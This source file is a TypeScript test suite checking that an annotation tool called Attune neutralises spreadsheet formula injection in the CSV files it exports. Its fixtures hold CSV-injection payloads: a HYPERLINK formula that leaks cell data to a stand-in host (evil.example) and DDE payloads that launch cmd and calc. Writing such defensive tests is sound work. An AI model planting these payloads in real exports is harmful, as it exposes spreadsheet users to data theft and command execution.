import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { predictionsCsv } from '../analysis/eval';
import { readExport } from '../formats/exports';
import { createService, type AttuneService } from '.';

const root = path.resolve(__dirname, '..', '..', '..');
const FORMULA = /^[=+\-@\t\r]/;
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd', '-2+3'];
let dir: string;
let svc: AttuneService;

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'attune-csvinj-'));
  const vtt = path.join(dir, 'hostile.vtt');
  const speakers = ["=cmd|'/C calc'!A0", '@bob'];
  fs.writeFileSync(vtt, `WEBVTT\n\n${HOSTILE.map((t, i) => `00:0${i * 2}.000 --> 00:0${i * 2 + 1}.500\n<v ${speakers[i % 2]}>${t}`).join('\n\n')}\n`);
  svc = createService(path.join(dir, 'project'));
  await svc.api.importRecording({ mediaPath: path.join(root, 'resources/sample/meeting.mp4'), transcriptPath: vtt });
  const segs = await svc.api.listSegments({});
  await svc.api.setLabel({ segmentId: segs[0].id, score: -1.5, note: '=1+1' });
  await svc.api.setLabel({ segmentId: segs[1].id, score: 2, note: '\t@x' });
});
afterAll(async () => {
  await svc.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

const cells = (file: string) => (parse(fs.readFileSync(file, 'utf8')) as string[][]).flat();

describe('CSV files Attune writes', () => {
  for (const format of ['csv', 'mmsa'] as const) {
    it(`${format}: no cell starts a formula, numbers stay numbers, and Attune reads its texts back`, async () => {
      const out = path.join(dir, `labels.${format}.csv`);
      await svc.api.exportLabels({ format, outPath: out });
      const all = cells(out);
      expect(all.filter((c) => FORMULA.test(c) && !/^-?\d+(\.\d+)?$/.test(c))).toEqual([]);
      expect(all).toContain('-1.5');
      expect(all).toContain(`'${HOSTILE[0]}`);
      const back = readExport(format, fs.readFileSync(out, 'utf8'), { file: out, reference: { recordings: await svc.api.listRecordings({}), segments: (await svc.api.listSegments({})).map((s) => ({ ...s, label: null })) } });
      expect(back.segments.map((s) => s.text)).toEqual(HOSTILE);
      if (format === 'csv') {
        expect(back.segments[0].speaker).toBe("=cmd|'/C calc'!A0");
        expect(back.labels.map((l) => [l.score, l.note])).toEqual([[-1.5, '=1+1'], [2, '\t@x']]);
      }
    });
  }

  it('eval --predictions: an id that is a formula is neutralised', () => {
    const p = { scores: { text: 0.5, audio: -0.25, video: 0, fused: -1 }, spread: { text: 0.1, audio: 0.1, video: 0.1, fused: 0.1 }, interval: { text: [0, 1], audio: [-1, 0], video: [-1, 1], fused: [-2, 0] }, present: { text: 1, audio: 1, video: 1 }, selfmiFused: -1 };
    const text = predictionsCsv([{ id: '=HYPERLINK("x")', label: -2 }], [p as never], { text: true, audio: true, video: true, fused: true });
    const rows = parse(text) as string[][];
    expect(rows[1][0]).toBe(`'=HYPERLINK("x")`);
    expect(rows[1][1]).toBe('-2');
  });
});
